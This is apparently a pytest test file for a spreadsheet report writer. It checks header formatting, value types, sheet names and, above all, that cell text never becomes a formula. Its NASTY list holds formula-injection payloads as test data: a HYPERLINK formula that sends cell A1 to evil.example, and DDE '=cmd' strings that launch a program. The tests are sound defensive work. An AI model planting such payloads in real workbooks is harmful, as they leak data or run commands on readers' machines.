"""Report workbooks: formatted for people, and no cell is ever a formula, whatever the text."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from reconcile.workbook import FORMULA_TRIGGERS, Sheet, defuse, write_workbook

NASTY = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click for support")',
    "=1+1",
    "+44 7700 900123",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "\r=2*3",
    "=cmd|' /C calc'!A0",
    "http://example.org/looks-like-a-link",
    "00123",
    "plain note",
]


def _assert_no_formulas(path: Path) -> list[object]:
    """Open with openpyxl; no cell may be a formula or start with '='. Returns every value."""
    book = openpyxl.load_workbook(path)
    values: list[object] = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith("="), f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                values.append(cell.value)
    return values


def test_hyperlink_note_stays_text(tmp_path: Path) -> None:
    frame = pd.DataFrame({"row": range(1, len(NASTY) + 1), "notes": NASTY})
    path = write_workbook(tmp_path / "book.xlsx", [Sheet("review queue", frame, wrap=["notes"])])
    values = _assert_no_formulas(path)
    ws = openpyxl.load_workbook(path)["review queue"]
    notes = [ws.cell(row=i + 2, column=2).value for i in range(len(NASTY))]
    # The text is all there, defused with a leading apostrophe where it could start a formula.
    assert notes[0] == "'" + NASTY[0]
    assert notes[-1] == "plain note"
    assert notes[-2] == "00123"  # never turned into a number
    assert all(ws.cell(row=i + 2, column=2).data_type == "s" for i in range(len(NASTY)))
    assert all(ws.cell(row=i + 2, column=2).hyperlink is None for i in range(len(NASTY)))
    assert "row" in values and "notes" in values


def test_header_is_frozen_filtered_and_sized(tmp_path: Path) -> None:
    frame = pd.DataFrame({"area": ["Telford & Wrekin", "Shropshire"], "quality_share": [0.698, 0.88], "n": [3, 4]})
    path = write_workbook(tmp_path / "book.xlsx", [Sheet("areas", frame, percent=["quality_share"])])
    ws = openpyxl.load_workbook(path)["areas"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:C3"
    assert ws["A1"].font.b
    assert ws.column_dimensions["A"].width >= len("Telford & Wrekin")
    assert ws["B2"].number_format == "0.0%" and ws["B2"].value == pytest.approx(0.698)
    assert ws["C3"].value == 4


def test_note_above_table_moves_the_header(tmp_path: Path) -> None:
    frame = pd.DataFrame({"check": ["duplicate"], "errors": [2]})
    path = write_workbook(tmp_path / "book.xlsx", [Sheet("failures", frame, note="=first rows only")])
    ws = openpyxl.load_workbook(path)["failures"]
    assert ws["A1"].value == "'=first rows only"
    assert ws["A2"].value == "check"
    assert ws.freeze_panes == "A3"
    _assert_no_formulas(path)


def test_values_keep_their_types(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "date": pd.to_datetime(["2023-04-05", None]),
            "flag": [True, False],
            "nullable": pd.array([True, None], dtype="boolean"),
            "count": pd.array([3, None], dtype="Int64"),
            "share": [np.nan, 0.5],
            "inf": [np.inf, 1.0],
            "ids": [["a.b.v1", "c.d.v2"], []],
            "day": [dt.date(2023, 6, 30), None],
        }
    )
    path = write_workbook(tmp_path / "book.xlsx", [Sheet("types", frame)])
    ws = openpyxl.load_workbook(path)["types"]
    assert ws["A2"].value == dt.datetime(2023, 4, 5)
    assert ws["A3"].value is None
    assert ws["B2"].value is True and ws["B3"].value is False
    assert ws["C2"].value is True and ws["C3"].value is None
    assert ws["D2"].value == 3 and ws["D3"].value is None
    assert ws["E2"].value is None and ws["E3"].value == 0.5
    assert ws["F2"].value == "inf"
    assert ws["G2"].value == "a.b.v1; c.d.v2"
    assert ws["H2"].value == dt.datetime(2023, 6, 30)


def test_sheet_names_are_made_safe_and_unique(tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": [1]})
    names = ["links [VAL/VS]: *all*?", "links [VAL/VS]: *all*?", "x" * 40, "", "'quoted'"]
    path = write_workbook(tmp_path / "book.xlsx", [Sheet(n, frame) for n in names])
    titles = openpyxl.load_workbook(path).sheetnames
    assert len(set(titles)) == len(names)
    assert all(len(t) <= 31 and not set(t) & set("[]:*?/\\") for t in titles)


def test_empty_frame_still_has_its_header(tmp_path: Path) -> None:
    path = write_workbook(tmp_path / "book.xlsx", [Sheet("links", pd.DataFrame(columns=["val_row", "vs_row"]))])
    ws = openpyxl.load_workbook(path)["links"]
    assert [c.value for c in ws[1]] == ["val_row", "vs_row"]


@given(st.text(max_size=60))
def test_defuse_never_leaves_a_formula_start(text: str) -> None:
    safe = defuse(text)
    assert not safe.startswith(FORMULA_TRIGGERS)
    assert safe == text or safe == "'" + text


@given(st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=8))
def test_any_text_is_never_a_formula(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    path = tmp_path_factory.mktemp("book") / "book.xlsx"
    write_workbook(path, [Sheet("t", pd.DataFrame({"notes": texts}))])
    _assert_no_formulas(path)
